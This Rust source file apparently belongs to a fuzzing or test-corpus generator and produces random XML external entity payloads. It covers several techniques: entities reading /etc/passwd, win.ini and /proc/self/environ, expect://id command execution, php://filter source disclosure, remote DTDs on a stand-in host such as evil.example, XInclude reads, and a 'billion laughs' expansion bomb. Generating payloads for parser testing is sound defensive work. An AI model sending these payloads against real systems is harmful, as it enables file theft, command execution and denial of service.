//! XML external entity and entity expansion grammar.

use rand::Rng;

use super::{pick, CorpusRng};

/// One XXE payload.
pub fn generate(rng: &mut CorpusRng) -> String {
    let root = pick(
        rng,
        &["foo", "root", "data", "r", "order", "user", "request"],
    );
    let ent = pick(rng, &["xxe", "x", "file", "e", "ent", "data"]);
    let target = pick(
        rng,
        &[
            "file:///etc/passwd",
            "file:///c:/windows/win.ini",
            "http://198.51.100.7/x.dtd",
            "expect://id",
            "php://filter/read=convert.base64-encode/resource=index.php",
            "file:///proc/self/environ",
            "https://evil.example/evil.dtd",
        ],
    );
    let decl = if rng.gen_bool(0.6) {
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
    } else {
        ""
    };
    match rng.gen_range(0..6) {
        0 | 1 => format!("{decl}<!DOCTYPE {root} [<!ENTITY {ent} SYSTEM \"{target}\">]><{root}>&{ent};</{root}>"),
        2 => format!("{decl}<!DOCTYPE {root} [<!ENTITY % {ent} SYSTEM \"{target}\"> %{ent};]><{root}/>"),
        3 => format!("{decl}<!DOCTYPE {root} SYSTEM \"{target}\"><{root}>x</{root}>"),
        4 => {
            // Five to ten levels of tenfold nesting: 30 KB to 3 GB expanded.
            let n = rng.gen_range(5..11);
            let mut s = format!("{decl}<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
            for i in 1..n {
                let prev = if i == 1 { "lol".to_string() } else { format!("lol{}", i - 1) };
                s.push_str(&format!("<!ENTITY lol{i} \"{}\">", format!("&{prev};").repeat(10)));
            }
            s.push_str(&format!("]><lolz>&lol{};</lolz>", n - 1));
            s
        }
        _ => format!("{decl}<{root} xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"{target}\"/></{root}>"),
    }
}
